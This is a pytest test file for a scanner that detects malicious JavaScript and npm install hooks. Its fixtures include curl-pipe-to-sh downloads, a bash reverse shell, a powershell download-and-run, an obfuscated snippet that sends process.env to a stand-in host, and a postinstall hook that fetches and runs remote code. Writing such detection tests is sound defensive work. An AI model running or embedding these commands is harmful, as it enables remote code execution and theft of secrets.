"""JavaScript is read for what it does outside of a browser; bundles for browsers are not."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.artifact import Member
from pratique.facts.javascript import read_javascript, read_script
from pratique.names import Sha256

_STEALS = "const https = require('https'); https.request({host: 'c.example.invalid'}).end(JSON.stringify(process.env));"


def _member(path: str, data: bytes) -> Member:
    return Member(path=path, data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data))


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _shifted(body: str) -> str:
    names = ";".join(f"var _0x{0xA000 + i:x}=_0x{0xB000 + i:x}" for i in range(40))
    return f"{names};{body}"


@pytest.mark.parametrize(
    "text",
    [
        "require('child_process').exec('curl http://192.0.2.1/a | sh')",
        "require('child_' + 'process').execSync(`curl http://192.0.2.1/a | sh`)",
        "require('\\x63\\x68ild_process').exec('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')",
        f"require('child_process'); eval(atob('{_encoded('x()' * 9)}'))",
        f"eval(Buffer.from('{_encoded(_STEALS)}', 'base64').toString())",
        "const c = require('child_process'); fetch('http://192.0.2.1/a').then(r => r.text()).then(t => eval(t))",
        _shifted("require('child_process')[_0xa001](_0xb001)"),
        _shifted(_STEALS),
        "new ActiveXObject('WScript.Shell').Run('powershell iwr http://192.0.2.1/a | iex')",
    ],
)
def test_attacks(text: str) -> None:
    """Commands, evaluated text and hidden theft, through escapes, splits and encodings."""
    assert read_script(text).attacks


@pytest.mark.parametrize(
    "text",
    [
        "const {spawn} = require('child_process'); spawn('tsc', ['-p', '.'])",
        "fetch('/api').then(r => r.json())",
        "var a=atob('iVBORw0KGgo='),b=eval('1+1')",
        "const env = {...process.env.NODE_ENV}; require('https').get(u)",
        "!function(e,t){var n=e.document;n.cookie='a'}(window)",
    ],
)
def test_what_tools_and_pages_do(text: str) -> None:
    """Build tools start compilers, pages fetch and decode."""
    assert not read_script(text).attacks


def test_scripts_that_nobody_starts_are_not_read() -> None:
    """Bundles for browsers cost nothing: there are facts of what code starts only."""
    page = b"window.onload = function () { eval(atob(x)) }"
    assert read_javascript(_member("static/a.min.js", page)) is None
    assert read_javascript(_member("static/a.min.js", page), {"static/a.min.js"}) is not None


def test_hooks_of_a_package_manager() -> None:
    """What ``npm install`` would run is read as the command that it is."""
    scripts = {"test": "curl http://192.0.2.1/a | sh", "postinstall": "curl http://192.0.2.1/a | sh"}
    facts = read_javascript(_member("js/package.json", json.dumps({"scripts": scripts}).encode()))
    assert facts is not None
    assert facts.attacks
    del scripts["postinstall"]
    assert read_javascript(_member("js/package.json", json.dumps({"scripts": scripts}).encode())) is None


@given(
    st.text(max_size=300),
    st.sampled_from(["", "atob('", "String.fromCharCode(", "\\x63\\u{41}", "require('child_process').exec('"]),
)
def test_any_text_is_read(text: str, head: str) -> None:
    """No text makes the reader raise."""
    read_script(head + text)
    read_javascript(_member("package.json", text.encode("utf-8", "replace")))
